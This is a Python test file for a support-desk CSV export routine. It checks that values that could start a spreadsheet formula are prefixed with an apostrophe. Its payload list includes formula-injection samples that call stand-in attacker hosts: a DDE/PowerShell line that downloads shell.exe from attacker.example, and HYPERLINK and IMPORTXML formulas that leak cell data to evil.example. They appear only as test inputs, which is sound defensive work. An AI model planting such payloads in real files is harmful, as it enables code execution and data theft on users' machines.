"""The spreadsheet-formula rule of CSV exports (``exports.neutralise``, ``exports.csvfile``)."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from supportdesk.exports.csvfile import Cell, cell_value, csv_chunks
from supportdesk.exports.neutralise import (
    FORMULA_TRIGGERS,
    LEADING_SPACES,
    is_formula_like,
    neutralise,
)

TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
PAYLOADS = [
    # Formulas and DDE payloads from the OWASP page and public write-ups.
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=cmd|' /C powershell IEX(wget attacker.example/shell.exe)'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1+9)",
    '=HYPERLINK("https://evil.example/?leak="&A1&B1, "Error: click to see details")',
    "=IMPORTXML(CONCAT(\"https://evil.example/?v=\", CONCATENATE(A2:E2)), \"//a\")",
    "=2+5+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+44 20 7946 0000",
    "-5",
    "--",
    "@channel please look",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0bcmd|' /C calc'!A0",
    "\uff0d5",
    "\uff20SUM(1)",
    " =1+1",
    "   @SUM(1)",
    "\u00a0=1+1",
    "\u3000\uff1d1+1",
    "=",
    "-",
]
SAFE = [
    "",
    " ",
    "Printer jam",
    "a=b",
    "1-2",
    "2026-01-05 09:00:00",
    "joe@contoso.com",
    "'=already marked",
    "Line one\n=not at the start",
    "Zoë ✓",
    "\u2212 5",  # MINUS SIGN is not a formula sign
    "\ufe66 1",  # SMALL EQUALS SIGN is not one either
    "x\t=1",
    "#REF!",
    "%1",
]


def test_the_trigger_set_is_exactly_the_documented_one() -> None:
    assert frozenset(TRIGGERS) == FORMULA_TRIGGERS


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_each_trigger_alone_and_before_text_is_prefixed(trigger: str) -> None:
    assert neutralise(trigger) == "'" + trigger
    assert neutralise(trigger + "SUM(A1)") == "'" + trigger + "SUM(A1)"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formulas_and_dde_payloads_are_prefixed(payload: str) -> None:
    assert is_formula_like(payload)
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("text", SAFE)
def test_other_text_is_left_alone(text: str) -> None:
    assert not is_formula_like(text)
    assert neutralise(text) == text


@pytest.mark.parametrize("space", list(LEADING_SPACES))
def test_leading_spaces_do_not_hide_a_trigger(space: str) -> None:
    assert neutralise(space * 3 + "=1+1") == "'" + space * 3 + "=1+1"


@given(st.text())
def test_the_result_never_starts_a_formula_and_keeps_the_text(text: str) -> None:
    result = neutralise(text)
    assert not is_formula_like(result)
    assert result in (text, "'" + text)
    assert (result != text) == is_formula_like(text)
    assert neutralise(result) == result


@pytest.mark.parametrize(("value", "written"), [
    (None, ""),
    (True, "true"),
    (False, "false"),
    (0, 0),
    (-5, -5),
    (2.5, 2.5),
    ("-5", "'-5"),
    ("Sales", "Sales"),
    (["=A1", "B"], "'=A1, B"),
    (("a", "b"), "a, b"),
    ([], ""),
])
def test_cell_values(value: object, written: object) -> None:
    assert cell_value(value) == written  # type: ignore[arg-type]


def test_csv_bytes_quote_text_and_leave_numbers_bare() -> None:
    header = ["ticket_number", "subject", "cf_Count"]
    batches: list[list[list[Cell]]] = [[[1, "=1+1", -3]], [[2, 'say "hi",\r\nbye', None]]]
    chunks = list(csv_chunks(header, iter(batches)))
    assert chunks == [
        b'"ticket_number","subject","cf_Count"\r\n',
        b'1,"\'=1+1",-3\r\n',
        b'2,"say ""hi"",\r\nbye",""\r\n',
    ]
    parsed = list(csv.reader(io.StringIO(b"".join(chunks).decode(), newline="")))
    assert parsed == [["ticket_number", "subject", "cf_Count"], ["1", "'=1+1", "-3"],
                      ["2", 'say "hi",\r\nbye', ""]]


def test_the_byte_order_mark_is_optional() -> None:
    with_mark = b"".join(csv_chunks(["name"], iter([[["Zoë"]]]), bom=True))
    assert with_mark == b'\xef\xbb\xbf"name"\r\n"Zo\xc3\xab"\r\n'
    assert with_mark.decode("utf-8-sig") == '"name"\r\n"Zoë"\r\n'
    assert b"".join(csv_chunks(["name"], iter([]))) == b'"name"\r\n'
